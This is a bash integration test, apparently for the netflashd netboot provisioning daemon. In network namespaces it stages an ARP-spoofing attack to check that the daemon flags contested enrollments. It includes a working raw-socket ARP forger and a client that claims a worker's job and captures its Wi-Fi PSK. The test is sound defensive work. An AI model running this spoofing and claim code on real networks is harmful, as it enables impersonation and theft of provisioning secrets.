#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# The forged-ARP theft (docs/security.md), on a LAN of network namespaces
# with netflashd's neighbour check on. The attacker keeps its own NIC MAC
# and IP and forges the payload of ARP replies from a raw AF_PACKET socket:
# "10.78.0.66 is at the worker's MAC". The master's neighbour table then
# puts the attacker's address at the worker's MAC, so the check passes: a
# netbooting Pi holds no secret, and no L2 check proves who it is. What
# netflashd does instead is notice: one claimant per job, and a neighbour
# entry that moves during the job, make the worker contested, and nothing
# any claimant says releases it. The LAN is a hub (the bridge learns no
# MACs: the attacker sees frames to the worker's MAC, as on a flooded
# switch), and the attacker takes them in through a macvlan with the
# worker's MAC, never sending from it.
source "$(dirname "$0")/../lib.sh"

NF="$NETFLASH_BUILD/master-tools/netflash"
NFD="$NETFLASH_BUILD/master-tools/netflashd"
img=$(test_image 16)
R=$T/root
W=b8:27:eb:00:0d:01 D=b8-27-eb-00-0d-01 EVIL=02:00:00:00:00:66 MASTER=02:00:00:00:00:02

netns_lan
ip -n "$(_ns br)" link set br0 type bridge ageing_time 0
netns_host master "$MASTER" 10.78.0.2
netns_host w "$W" 10.78.0.11
netns_host evil "$EVIL" 10.78.0.66
# The attacker: answers no ARP itself, knows the master's MAC, and receives
# what is sent to the worker's MAC.
nsx evil sysctl -qw net.ipv4.conf.all.arp_ignore=8 net.ipv4.conf.eth0.arp_ignore=8 \
	net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.eth0.rp_filter=0 net.ipv6.conf.all.disable_ipv6=1
nsx evil ip neigh replace 10.78.0.2 lladdr "$MASTER" dev eth0 nud permanent
nsx evil ip link add link eth0 name mv0 address "$W" type macvlan mode private
nsx evil ip link set mv0 arp off
nsx evil sysctl -qw net.ipv4.conf.mv0.rp_filter=0
nsx evil ip link set mv0 up

nsx master "$NF" --root "$R" init --interface eth0 --subnet 10.78.0.0/24 --server-ip 10.78.0.2 --port 7070 >/dev/null
"$NF" --root "$R" image add "$img.zst" --name pios >/dev/null
"$NF" --root "$R" boot-files import --from-image pios >/dev/null 2>&1
printf 'correct horse battery\n' >"$T/psk"
enroll() {
	"$NF" --root "$R" enroll "$W" --image pios --hostname rack2-03 --wifi-ssid lab --wifi-psk-file "$T/psk" "$@" >/dev/null
	# Nothing served over TFTP is secret (security.sh reads it over TFTP).
	tok=$(grep -o 'netflash.token=[0-9a-f]*' "$R/tftp/$D/cmdline.txt" | cut -d= -f2)
}
enroll
nsx master "$NFD" --root "$R" --listen 10.78.0.2:7070 --nfs-url nfs://10.78.0.2/export >>"$T/daemon.log" 2>&1 &
register_pid $!
wait_for "$T/daemon.log" "listening on" 10 || fail "netflashd did not start: $(tail -3 "$T/daemon.log")"

# forge.py: every 0.2 s, an ARP reply to the master whose payload says
# 10.78.0.66 is at the MAC named in $T/forge_as (the Ethernet source stays
# the attacker's own). Runs until killed.
cat >"$T/forge.py" <<'EOF'
import socket, struct, sys, time
mine, master, as_file = sys.argv[1:4]
mac = lambda s: bytes.fromhex(s.replace(":", ""))
ip = socket.inet_aton
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
while True:
    sha = open(as_file).read().strip()
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac(sha), ip("10.78.0.66"), mac(master), ip("10.78.0.2"))
    s.send(mac(master) + mac(mine) + b"\x08\x06" + arp)
    time.sleep(0.2)
EOF
# claim.py SRC TOKEN GO: HELLO from SRC; prints the answer (without the
# patch's digest) and whether the patch carried the Wi-Fi PSK (as
# rpi-imager's set_wlan line, hashed with the SSID: still the key); then, once the
# file GO exists, a DONE with the image's digest and the patch's (what the
# worker that wrote it would send) and its answer.
cat >"$T/claim.py" <<'EOF'
import os, socket, sys, time
src, mac, tok, go, sha, size = sys.argv[1:7]
s = socket.socket(); s.bind((src, 0)); s.settimeout(15); s.connect(("10.78.0.2", 7070))
f = s.makefile("rb")
s.sendall(("HELLO v=1 mac=%s token=%s\n" % (mac, tok)).encode())
first = f.readline().decode().strip()
print(first.split(" patch_sha256=")[0], flush=True)
if not first.startswith("JOB "):
    sys.exit(0)
jid = first.split("id=")[1].split()[0]
psha = first.split("patch_sha256=")[1].split()[0] if "patch_sha256=" in first else None
n, data = int(first.split(" patch=")[1].split()[0]) if psha else 0, b""
while len(data) < n:
    data += bytes.fromhex(f.readline().decode().split("data=")[1].strip())
print("PSK" if b"set_wlan 'lab' " in data else "NOPSK", flush=True)
while not os.path.exists(go):
    time.sleep(0.05)
s.sendall(("DONE id=%s sha256=%s bytes=%s seconds=1.0%s\n" % (jid, sha, size, " patch=" + psha if psha else "")).encode())
print(f.readline().decode().strip(), flush=True)
EOF
sha=$(sha256sum "$img" | cut -d' ' -f1) size=$(stat -c %s "$img")
# claim NS SRC NAME: starts claim.py in NS (output $T/NAME.out, go file $T/NAME.go)
claim() {
	nsx "$1" python3 "$T/claim.py" "$2" "$W" "$tok" "$T/$3.go" "$sha" "$size" >"$T/$3.out" 2>&1 &
	register_pid $!
	eval "${3}_pid=$!"
}
master_neigh() { nsx master ip neigh show 10.78.0.66 dev eth0 | grep -o 'lladdr [0-9a-f:]*' | cut -d' ' -f2; }
neigh_is() { [ "$(master_neigh)" = "$1" ]; }
status_of() { "$NF" --root "$R" status --json | grep -o "\"mac\":\"$D\".\{0,600\}"; }

echo "$W" >"$T/forge_as"
nsx evil python3 "$T/forge.py" "$EVIL" "$MASTER" "$T/forge_as" &
register_pid $!

# 1. The attacker first, while the worker still boots: its forged entry
# passes the check, and it gets the job and the secrets (nothing on the LAN
# can tell it apart yet). Then the real worker says HELLO: a second
# claimant, so the worker is contested, and the attacker's DONE, with
# every digest right, releases nothing.
claim evil 10.78.0.66 e1
wait_for "$T/e1.out" "PSK" 15
[ "$(master_neigh)" = "$W" ] && has "^JOB .*PSK" <(tr '\n' ' ' <"$T/e1.out") &&
	pass "the forged ARP reply puts the attacker's address at the worker's MAC: it passes the check and gets the job" ||
	fail "the forgery did not work, the test proves nothing: neigh $(master_neigh), $(cat "$T/e1.out")"
claim w 10.78.0.11 w1
wait "$w1_pid"
touch "$T/e1.go"
wait "$e1_pid"
has "^NOJOB reason=contested$" "$T/w1.out" && has "^KEPT id=[0-9]* reason=contested$" "$T/e1.out" &&
	[ -d "$R/tftp/$D" ] && pass "the real worker's HELLO contests the job; the attacker's DONE is KEPT" ||
	fail "attacker first: worker [$(cat "$T/w1.out")] attacker [$(cat "$T/e1.out")]"
status_of | has '"enrollment":"contested".*a second host, 10.78.0.11:[0-9]*, proved its token while its job is claimed by 10.78.0.66; its provisioning secrets went to 10.78.0.66: treat the Wi-Fi PSK and password of this enrollment as exposed' &&
	pass "status: contested, both peers, the secrets named exposed" || fail "status: $(status_of)"

# 2. An attacker that stops forging: the master's entry for its address
# goes back to its own MAC during the job; at DONE netflashd sees the
# entry moved, and the worker is contested.
"$NF" --root "$R" release --force "$W" >/dev/null
enroll --force
claim evil 10.78.0.66 e2
wait_for "$T/e2.out" "PSK" 15 || fail "attacker's second HELLO: $(cat "$T/e2.out")"
echo "$EVIL" >"$T/forge_as"
wait_until 10 neigh_is "$EVIL" || fail "the master's entry did not move back: $(master_neigh)"
touch "$T/e2.go"
wait "$e2_pid"
has "^KEPT id=[0-9]* reason=contested$" "$T/e2.out" && [ -d "$R/tftp/$D" ] &&
	status_of | has "\"enrollment\":\"contested\".*the neighbour entry of 10.78.0.66:[0-9]* moved from $D to 02-00-00-00-00-66 during its job; its provisioning secrets went to 10.78.0.66" &&
	pass "a neighbour entry that moves during the job: DONE is KEPT, the worker contested" ||
	fail "moved entry: [$(cat "$T/e2.out")] $(status_of)"

# 3. The worker first, then the attacker's forged claim: NOJOB contested
# for the attacker, and the worker's own DONE releases nothing either (the
# admin decides: release --force or a new enroll).
"$NF" --root "$R" release --force "$W" >/dev/null
enroll --force
echo "$W" >"$T/forge_as"
claim w 10.78.0.11 w3
wait_for "$T/w3.out" "PSK" 15 || fail "worker's HELLO: $(cat "$T/w3.out")"
wait_until 10 neigh_is "$W" || fail "the forgery did not land: $(master_neigh)"
claim evil 10.78.0.66 e3
wait "$e3_pid"
touch "$T/w3.go"
wait "$w3_pid"
has "^NOJOB reason=contested$" "$T/e3.out" && has "^KEPT id=[0-9]* reason=contested$" "$T/w3.out" &&
	[ -d "$R/tftp/$D" ] && "$NF" --root "$R" history "$W" | has "a second host, 10.78.0.66" &&
	pass "worker first: the forged claim gets NOJOB contested, the worker's DONE is KEPT, history has it" ||
	fail "worker first: attacker [$(cat "$T/e3.out")] worker [$(cat "$T/w3.out")]"
finish
